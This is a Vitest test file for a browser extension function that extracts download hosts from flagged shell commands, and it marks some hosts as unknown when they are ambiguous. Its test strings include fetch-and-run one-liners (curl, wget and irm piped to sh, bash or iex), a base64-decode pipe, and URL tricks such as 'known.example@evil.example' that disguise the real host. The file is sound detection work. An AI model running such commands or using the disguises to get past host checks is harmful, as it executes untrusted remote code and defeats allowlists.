import { describe, expect, it } from "vitest";
import { hostsOf } from "../../../src/extension/background/finding-hosts.js";

const hosts = (text: string, rule = "bash/fetch-pipe"): string[] | null => hostsOf({ rule, text });

describe("the hosts of a finding", () => {
  it.each([
    ["curl -fsSL https://get.example.org/i.sh | sh", ["get.example.org"]],
    ["curl --proto '=https' --tlsv1.2 -sSf https://sh.example.rs | sh", ["sh.example.rs"]],
    ['bash -c "$(curl -fsSL https://raw.example.com/x/install.sh)"', ["raw.example.com"]],
    ["wget -qO- https://A.example:8443/x | sudo bash", ["a.example:8443"]],
    [
      "(curl https://a.example/x || wget -qO- https://b.example/x) | sh",
      ["a.example", "b.example"],
    ],
    ["irm https://get.example/i.ps1 | iex", ["get.example"]],
  ])("are found in %s", (text, expected) => {
    expect(hosts(text)).toEqual(expected);
  });

  it.each([
    ["a URL without https", "curl http://a.example/x | sh"],
    ["a URL without a scheme", "curl a.example/x | sh"],
    [
      "a URL that is the value of an option",
      "curl -H 'Referer: https://known.example' evil.example | sh",
    ],
    ["a proxy", "curl -x https://known.example https://b.example | sh"],
    ["a variable", "curl https://known.example/$X | sh"],
    ["a variable as the host", "curl https://$HOST/x | sh"],
    ["a user name that looks like a host", "curl https://known.example@evil.example/x | sh"],
    ["a user name with a password", "curl https://known.example:80@evil.example/x | sh"],
    ["more fetchers than URLs", "curl https://known.example/x evil | sh; curl evil | sh"],
    ["backticks", "bash -c `curl https://known.example/x`"],
    ["a backslash", "curl https://known.example\\.evil.example | sh"],
  ])("are unknown if a command has %s", (_name, text) => {
    expect(hosts(text)).toBeNull();
  });

  it("are unknown for a decoded payload", () => {
    expect(hosts("curl https://a.example | base64 -d | sh", "bash/decode-pipe")).toBeNull();
  });
});
